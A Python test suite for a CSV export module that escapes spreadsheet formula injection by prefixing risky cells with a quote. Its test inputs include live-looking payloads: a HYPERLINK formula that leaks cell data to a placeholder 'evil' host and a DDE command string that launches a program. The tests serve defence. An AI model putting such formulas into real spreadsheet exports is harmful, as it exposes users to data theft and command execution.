"""Cells a spreadsheet would run as formulas are written as text; everything else is untouched."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from okr_app.csv_safety import FORMULA_STARTS, SafeWriter, escape_cell

# Text that starts with a formula character, then anything.
FORMULA_TEXT = st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=20)).map("".join)
# Text that starts with anything else.
PLAIN_TEXT = st.tuples(st.characters(blacklist_characters="".join(FORMULA_STARTS)),
                       st.text(max_size=20)).map("".join)


@pytest.mark.parametrize("cell", [
    "=1+1", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=", "-", "+", "@", "-1e5+A1",
])
def test_formula_looking_cells_get_a_leading_quote(cell):
    assert escape_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-120.50", "+3", "-7", "-.5", "-1e5", "+0.25"])
def test_plain_signed_numbers_are_left_as_numbers(cell):
    assert escape_cell(cell) == cell


@pytest.mark.parametrize("value", [None, 42, -3.5, Decimal("-120.00"), date(2026, 1, 5), "Grow ARR", "",
                                   "a=b", "email@example.com"])
def test_other_values_pass_through_unchanged(value):
    assert escape_cell(value) == value


@given(FORMULA_TEXT)
def test_no_written_cell_starts_with_a_formula_character_unless_it_is_a_plain_number(cell):
    """Invariant: what we write begins with = + - @ tab or CR only when it is a signed number."""
    escaped = escape_cell(cell)
    if escaped.startswith(FORMULA_STARTS):
        float(escaped)  # raises for anything that is not a number


@given(FORMULA_TEXT)
def test_escaping_only_prepends_so_the_original_text_is_recoverable(cell):
    """Round trip: dropping the added quote gives back exactly what was stored."""
    escaped = escape_cell(cell)
    assert escaped == cell or escaped[1:] == cell


@given(PLAIN_TEXT)
def test_text_not_starting_with_a_formula_character_is_never_changed(cell):
    assert escape_cell(cell) == cell


def test_the_safe_writer_escapes_every_row_it_writes():
    buffer = io.StringIO()
    SafeWriter(buffer).writerows([["name", "amount"], ["=evil()", "-10.00"]])
    SafeWriter(buffer).writerow(["@attack"])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "amount"], ["'=evil()", "-10.00"], ["'@attack"]]
